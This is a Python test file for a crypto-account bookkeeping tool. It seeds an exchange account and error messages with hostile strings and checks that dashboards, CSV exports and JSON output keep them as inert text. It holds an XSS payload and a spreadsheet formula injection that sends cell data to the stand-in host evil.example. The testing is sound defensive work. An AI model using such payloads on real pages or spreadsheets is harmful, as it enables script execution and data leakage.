"""Words that others put into an account, on their whole way: exchange, store, pages in a real browser, CSV. They do nothing."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
from datetime import timedelta
from urllib.parse import unquote

import pytest
from typer.testing import CliRunner

from commands import NAVBOOK, clean_environment, navbook
from locals import START, local_exchange
from navbook.cli import app
from navbook.runner import pages
from test_publish_server import Visit, browser, needs_browser  # noqa: F401  (browser is a fixture)

MARKUP = '</script><script>window.obeyed=1</script><img src=x onerror="window.obeyed=2">'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """The folder of an account whose deposits, gifts and refusals speak to browsers and spreadsheets, published."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch, local_exchange(folder, patch) as local:
        patch.setenv("XDG_STATE_HOME", str(folder / ".state"))
        local.account("main", {"spot": {"USDT": "500", "BTC": "0.1"}})
        for number, words in enumerate((MARKUP, FORMULA)):
            local.event("deposit", "main", START + timedelta(minutes=number), asset="USDT", amount="10", tx_id=words, network=words)
            local.event("dividend", "main", START + timedelta(minutes=5 + number), asset="USDT", amount="1", info=words)
            local.event("fiat", "main", START + timedelta(minutes=10 + number), side="deposit", asset="EUR", amount="20",
                        payment_method=words)
        local.config()
        patch.chdir(folder)
        for hours, words in enumerate(("", MARKUP, FORMULA, "")):
            local.clock(START + timedelta(hours=hours + 1))
            if words:
                local.fault("/api/v3/account", status=400, code=-1100, msg=words, count=9)
            assert CliRunner().invoke(app, ["collect", "--no-notebook"]).exit_code == bool(words)
            local.server.control("DELETE", "faults")
        local.rebuild()
        pages.publish(local.config())
        yield folder


@needs_browser
def test_on_pages_they_are_text(home, browser):    # noqa: F811
    server = subprocess.Popen([NAVBOOK, "dashboards", "--port", "0"], cwd=home, stdout=subprocess.PIPE, text=True,
                              env=clean_environment())
    try:
        assert server.stdout is not None
        address = server.stdout.readline().split()[1]
        with Visit(browser) as visit:
            for name, charts in {"index": 0, "portfolio-main": 3, "operations": 0, "log": 0}.items():
                page = visit.open(f"{address}voila/render/{name}.ipynb", charts=charts)
                page.wait_for_selector("h1")
                assert page.evaluate("window.obeyed") is None, name
            shown = page.locator(".log").inner_text()
            assert MARKUP in shown, "it was there to be obeyed"
            assert FORMULA in shown
            sheet = unquote(str(page.locator(".export").get_attribute("href")).partition(",")[2])
            assert (visit.complaints, visit.abroad) == ([], [])
        cells = [cell for row in csv.reader(io.StringIO(sheet)) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    finally:
        server.send_signal(signal.SIGINT)
        server.wait(20)


@pytest.mark.parametrize("table", ["cash_flows", "rewards"])
def test_in_a_spreadsheet_they_are_text(home, table):
    done = navbook("sql", f"select * from {table}", "--format", "csv", folder=home, variables=clean_environment())
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not any(cell.startswith(("=HYP", "+", "@")) for cell in cells)


def test_a_year_of_them_is_exported_as_text(home):
    assert navbook("export", "--year", str(START.year), folder=home, variables=clean_environment()).returncode == 0
    texts = [file.read_text(encoding="utf-8") for file in home.rglob("*.csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not any(cell.startswith("=HYP") for cell in cells)
    statement = next(home.rglob("statement.html")).read_text(encoding="utf-8")
    assert "<script>window" not in statement
    assert "<img src=x" not in statement


def test_a_row_of_json_keeps_them_as_they_are(home):
    done = navbook("sql", "select note from rewards order by time", "--format", "json", folder=home, variables=clean_environment())
    assert {row["note"] for row in json.loads(done.stdout)} >= {MARKUP, FORMULA}
